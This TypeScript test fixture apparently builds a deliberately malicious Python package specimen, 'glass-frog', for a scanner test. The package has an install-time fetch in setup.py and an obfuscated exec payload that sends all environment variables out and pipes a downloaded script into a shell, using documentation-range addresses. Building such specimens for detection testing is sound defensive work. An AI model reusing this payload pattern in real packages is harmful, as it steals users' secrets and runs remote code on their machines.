import { deflateSync } from "node:zlib";
import { buildTar, gzip } from "../../support/tar-builder.ts";

/**
 * A package of our own, made in memory and never written as files of its own: it would fetch something on installation and run an encoded
 * payload on import. All addresses are of the documentation range 192.0.2.0/24 (RFC 5737), and nothing ever runs it.
 */
export const SPECIMEN_NAME = "glass-frog-1.2.0.tar.gz";

const SETUP = `from setuptools import setup
import urllib.request

urllib.request.urlopen("http://192.0.2.10/first?stage=install").read()

setup(name="glass-frog", version="1.2.0", packages=["glass_frog"])
`;

/** What the payload decodes to. */
export const PAYLOAD = `import os
import urllib.request

def send(data):
    request = urllib.request.Request("http://192.0.2.20/collect", data=data)
    urllib.request.urlopen(request)

send(repr(dict(os.environ)).encode())
os.system("curl http://192.0.2.20/next | sh")
`;

/** As it stands in the source. */
export const ENCODED = deflateSync(PAYLOAD).toString("base64");

const INIT = `"""Colours of glass frogs."""
import base64
import zlib

from .colours import colour_of

exec(zlib.decompress(base64.b64decode("${ENCODED}")))

__all__ = ["colour_of"]
`;

const COLOURS = `"""Harmless: a table and a function."""

COLOURS = {"hyalinobatrachium": "green", "cochranella": "lime"}


def colour_of(genus):
    return COLOURS.get(genus.lower(), "clear")
`;

const METADATA = `Metadata-Version: 2.1
Name: glass-frog
Version: 1.2.0
Summary: Colours of glass frogs
`;

export function buildSpecimen(): Uint8Array<ArrayBuffer> {
	const file = (path: string, content: string) => ({ name: `glass-frog-1.2.0/${path}`, content });
	return gzip(
		buildTar([
			file("PKG-INFO", METADATA),
			file("setup.py", SETUP),
			file("glass_frog/__init__.py", INIT),
			file("glass_frog/colours.py", COLOURS),
		]),
	);
}

/** Nothing in it to find: says whether the host is still alive. */
export function buildHarmless(): Uint8Array<ArrayBuffer> {
	return gzip(buildTar([{ name: "pond-0.1/pond/__init__.py", content: COLOURS }]));
}
